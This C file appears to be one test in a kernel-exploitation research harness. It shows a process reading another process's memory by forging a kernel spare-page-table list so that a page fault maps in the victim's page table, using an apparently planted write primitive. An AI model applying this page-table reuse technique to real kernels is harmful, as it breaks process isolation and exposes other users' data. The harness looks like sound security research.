/* A page table of the first process's counts as an empty one: the next page fault hangs it into the
 * attack's address space, too. */
#include "attack.h"

int main(void)
{
	volatile char *range = attack_ranges(false);
	volatile char *second = range + ATTACK_RANGE_BYTES;
	uint64_t place, table, offset, before;
	struct attack_page page;
	struct attack_frame_books books;
	struct bw_leak leak;

	attack_begin(&leak, 1, 0);
	if (attack_list_pages(&leak, leak.root_first, &page, 1) == 0) {
		attack_skip("the first process has no page");
	}
	table = (page.place - leak.direct_map_base) / BW_PAGE_SIZE;
	offset = page.address % ATTACK_RANGE_BYTES;
	attack_frame_books_read(&leak, table, &books);

	attack_say("frame 0x%lx is a page table of the first process's; the stock at 0x%lx has it "
		   "for an empty one",
		   table, leak.spare_tables.slots);
	attack_frame_books_no_table(&books);
	before = attack_stock_forge(&leak.spare_tables, table);
	/* a page fault, which takes that table, and finds the page in it */
	attack_say("first bytes of a page there: 0x%lx",
		   *(const volatile uint64_t *)(const volatile void *)&second[offset]);
	attack_have_witnessed();

	/* each has its own tables again, and the kernel remembers another one than that */
	if (attack_entry_at(&leak, leak.root, (uintptr_t)second, 2, &place) != 0) {
		attack_check("vuln_write", bw_vuln_write(place, 0));
	}
	attack_frame_books_restore(&books);
	range[BW_PAGE_SIZE] = 0;
	attack_stock_return(&leak.spare_tables, before);
	return attack_finish();
}
